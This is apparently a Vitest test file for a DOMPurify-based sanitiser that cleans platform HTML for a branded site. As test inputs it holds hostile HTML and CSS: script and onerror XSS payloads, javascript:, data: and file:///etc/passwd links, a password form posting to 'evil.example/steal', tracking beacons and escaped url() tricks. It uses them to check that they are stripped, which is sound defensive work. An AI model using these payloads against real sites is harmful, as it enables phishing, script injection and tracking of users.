// @vitest-environment jsdom
// The one sanitising policy for platform HTML (DESIGN 4), with the real DOMPurify.
import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { PlatformHtml } from '../../../src/ui/platform-html.tsx';
import DOMPurify from 'dompurify';
import { sanitise, sanitisePlatformHtml, type HtmlPolicy } from '../../../src/ui/platform-html-policy.ts';
import { resolveUrl } from '../../../src/config/picture-url.ts';

const policy: HtmlPolicy = { imageHosts: ['https://cdn.platform.example/img'], origin: 'https://brand.example', linkHosts: ['brand.example', 'x.example', 'partner.example'] };
const clean = async (html: string): Promise<HTMLElement> => {
  const box = document.createElement('div');
  box.innerHTML = (await sanitise(html, policy)).html as unknown as string;
  return box;
};

describe('platform HTML cannot phish or take over the page', () => {
  // The lists are written out here, not read from the policy: a test that read them would lose a case with its entry.
  it.each([
    'form', 'input', 'button', 'select', 'textarea', 'option', 'optgroup', 'datalist', 'fieldset', 'output', 'label',
    'audio', 'video', 'source', 'track', 'picture', 'style', 'template', 'dialog',
  ])('drops <%s>, which DOMPurify alone would keep', async (tag) => {
    const box = await clean(`<div><${tag} id="t">inside</${tag}></div>`);
    expect(box.querySelector(tag)).toBeNull();
  });

  it.each(['srcset', 'sizes', 'poster', 'background', 'action', 'usemap', 'tabindex'])('drops the %s attribute, which DOMPurify alone would keep', async (name) => {
    const box = await clean(`<div ${name}="1">text</div><img alt="own" src="/cdn/ttslot/banner/1.png" ${name}="1">`);
    expect(box.querySelector(`[${name}]`)).toBeNull();
    expect(box.querySelector('img')).not.toBeNull();
  });

  it('holds its own profile when handed raw HTML, not only after the inert parse', () => {
    const { html } = sanitisePlatformHtml(DOMPurify, '<p>Win</p><form><input name="pw"></form><div tabindex="1">x</div>', policy);
    expect(String(html)).toBe('<p>Win</p><div>x</div>');
  });

  it('drops a picture without an address, and lists none for it', () => {
    const { html, pictures } = sanitisePlatformHtml(DOMPurify, '<p>a</p><img alt="no source">', policy);
    expect(String(html)).toBe('<p>a</p>');
    expect(pictures).toEqual([]);
  });

  it('checks an image map\'s links as it checks <a>: another site\'s opens apart, one off the list is no link', async () => {
    const box = await clean('<map name="m"><area alt="partner" href="https://partner.example/p"><area alt="evil" href="https://evil.example/x"></map>');
    const [partner, evil] = [...box.querySelectorAll('area')];
    expect(partner).toHaveAttribute('target', '_blank');
    expect(partner).toHaveAttribute('rel', 'noopener noreferrer');
    expect(evil).not.toHaveAttribute('href');
  });

  it('drops forms and every form control, so nothing can post a password off-site', async () => {
    const box = await clean('<p>Win</p><form action="http://evil.example/steal"><input type="password" name="pw"><select><option>1</option></select><textarea></textarea><button formaction="http://evil.example">Go</button></form>');
    expect(box.querySelector('form, input, select, textarea, button, option')).toBeNull();
    expect(box.innerHTML).not.toContain('evil.example');
    expect(box.textContent).toContain('Win');
  });

  it('strips positioning that escapes the content box and keeps the rest of the style', async () => {
    const box = await clean('<div style="position:fixed;inset:0;z-index:99999;background:white;color:red">cover</div><p style="position:relative;top:-900px;transform:translateY(-900px);font-size:16px">up</p>');
    const cover = box.querySelector('div') as HTMLElement;
    expect(cover.style.position).toBe('');
    expect(cover.style.zIndex).toBe('');
    expect(cover.style.inset).toBe('');
    expect(cover.style.color).toBe('red');
    const up = box.querySelector('p') as HTMLElement;
    expect(up.style.position).toBe('relative');
    expect(up.style.top).toBe('');
    expect(up.style.transform).toBe('');
    expect(up.style.fontSize).toBe('16px');
  });

  it('keeps pictures of this site and of the platform\'s image hosts only', async () => {
    const box = await clean([
      '<img alt="own" src="/cdn/ttslot/banner/1.png">',
      '<img alt="cdn" src="https://cdn.platform.example/img/a.png">',
      '<img alt="data" src="data:image/png;base64,iVBORw0KGgo=">',
      '<img alt="beacon" src="https://evil.example/b.gif?c=1">',
      '<img alt="sibling path" src="https://cdn.platform.example/other/a.png">',
      '<img alt="svg data" src="data:image/svg+xml;base64,PHN2Zz4=">',
      '<img alt="relative host" src="//evil.example/b.gif">',
    ].join(''));
    expect([...box.querySelectorAll('img')].map((img) => img.alt)).toEqual(['own', 'cdn', 'data']);
  });

  it('drops every other way a picture or sound reaches another host', async () => {
    const box = await clean([
      '<img alt="set" src="/a.png" srcset="https://evil.example/1x.png 1x">',
      '<picture><source srcset="https://evil.example/p.png"><img alt="p" src="/p.png"></picture>',
      '<video poster="https://evil.example/v.png"></video><audio src="https://evil.example/a.mp3"></audio>',
      '<table background="https://evil.example/t.png"><tr><td style="background:url(https://evil.example/u.png)">cell</td></tr></table>',
      '<div style="background-image:image-set(\'https://evil.example/i.png\' 1x)">x</div>',
    ].join(''));
    expect(box.innerHTML).not.toMatch(/evil\.example/);
    expect(box.querySelector('video, audio, source')).toBeNull();
  });

  it('lets only http(s) links and paths of this site through; links to other hosts open in a new tab without an opener', async () => {
    const hostile = ['javascript:alert(1)', ' JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>1</script>', 'vbscript:x', 'file:///etc/passwd',
      'intent://x#Intent;end', '//evil.example/x', '/\\evil.example/x', 'https:evil.example', 'https://user:pw@evil.example/'];
    const box = await clean(hostile.map((href, i) => `<a href="${href.replace(/"/g, '&quot;')}">l${i}</a>`).join('') + '<a href="https://partner.example/p">out</a><a href="https://brand.example/m/activity?id=3">own</a><a href="/m/help">help</a>');
    const links = [...box.querySelectorAll('a')];
    expect(links.slice(0, hostile.length).every((a) => !a.hasAttribute('href'))).toBe(true);
    const [out, own, help] = links.slice(hostile.length);
    expect(out?.getAttribute('href')).toBe('https://partner.example/p');
    expect(out?.getAttribute('target')).toBe('_blank');
    expect(out?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(own?.getAttribute('href')).toBe('/m/activity?id=3');
    expect(own?.hasAttribute('target')).toBe(false);
    expect(help?.getAttribute('href')).toBe('/m/help');
  });

  it('still removes scripts and handlers, and the hook does not outlive one call', async () => {
    const box = await clean('<img src=x onerror=alert(1)><script>alert(2)</script><a href="/m/home" onclick="alert(3)">ok</a>');
    expect(box.innerHTML).not.toMatch(/alert|script|onerror|onclick/);
    const { default: purify } = await import('dompurify');
    expect(purify.sanitize('<img alt="kept" src="https://evil.example/x.png">')).toContain('evil.example');
  });

  it('renders inside a box that contains it', async () => {
    const { html } = await sanitise('<p>hello</p>', policy);
    const { container } = render(<PlatformHtml html={html} />);
    expect(container.firstElementChild?.className).toMatch(/box/);
    expect(container.textContent).toBe('hello');
  });
});

describe('resolveUrl', () => {
  it('reads paths of this site and absolute http(s) URLs only', () => {
    expect(resolveUrl('/m/home', policy.origin, policy.linkHosts)?.href).toBe('https://brand.example/m/home');
    expect(resolveUrl('https://x.example/a', policy.origin, policy.linkHosts)?.host).toBe('x.example');
    for (const bad of ['//x.example', '/\\x.example', 'https:x.example', 'ftp://x.example', 'm/home', '', 'https://evil.example/a']) {
      expect(resolveUrl(bad, policy.origin, policy.linkHosts), bad).toBeUndefined();
    }
  });
});

describe('style rewriting and the pictures kept', () => {
  it('rewrites kept inline styles only, and lists the pictures it kept', async () => {
    const { html, pictures } = await sanitise('<p style="font-size:16px;position:fixed">16px text</p><img src="/a.png"><img src="https://evil.example/b.png">', { ...policy, rewriteStyle: (css) => css.replace('16px', '1rem') });
    const box = document.createElement('div');
    box.innerHTML = html as unknown as string;
    expect(box.querySelector('p')?.getAttribute('style')).toBe('font-size: 1rem;');
    expect(box.textContent).toBe('16px text');
    expect(pictures).toEqual(['/a.png']);
  });

  it('keeps the style engine\'s reading of a style, not the raw text: a declaration it cannot read does not ride along (found by the corpus test)', async () => {
    const box = await clean('<p style="-moz-binding:url(https://evil.example/x.xml#x);color:red">a</p><p style="border-image:url(https://evil.example/b.png) 30 round;border:1px solid">b</p>');
    expect(box.innerHTML).not.toMatch(/evil\.example/);
    expect((box.querySelector('p') as HTMLElement).style.color).toBe('red');
  });

  it('drops what hides a value from the checks: custom properties, var(), env(), attr() and CSS escapes (a beacon written \\75 rl( is still url( to the browser)', async () => {
    const box = await clean('<p style="--x: \\75 rl(https://evil.example/a.png); background-image: var(--x); color: red">a</p>'
      + '<p style="background: \\75 rl(https://evil.example/b.png); margin: env(safe-area-inset-top); width: attr(data-w px); color: blue">b</p>');
    const [first, second] = [...box.querySelectorAll('p')] as HTMLElement[];
    expect(box.innerHTML).not.toMatch(/evil|var\(|env\(|attr\(|--x|\\/);
    expect(first?.getAttribute('style')).toBe('color: red;');
    expect(second?.getAttribute('style')).toBe('color: blue;');
  });
});

describe('pictures in platform HTML and assistive technology (axe image-alt)', () => {
  it('a picture without a text alternative is decoration; one with its author\'s alt keeps it', async () => {
    const { html } = await sanitise('<h2>Welcome</h2><p>Claim your bonus.</p><img src="/promo/1.png" width="300"><img alt="Bonus table" src="/promo/2.png">', policy);
    render(<PlatformHtml html={html} />);
    expect(screen.getAllByRole('img').map((img) => img.getAttribute('alt'))).toEqual(['Bonus table']);
    expect(screen.getByRole('presentation')).toHaveAttribute('src', '/promo/1.png');
    expect(screen.getByRole('heading', { name: 'Welcome' })).toBeInTheDocument();
  });
});
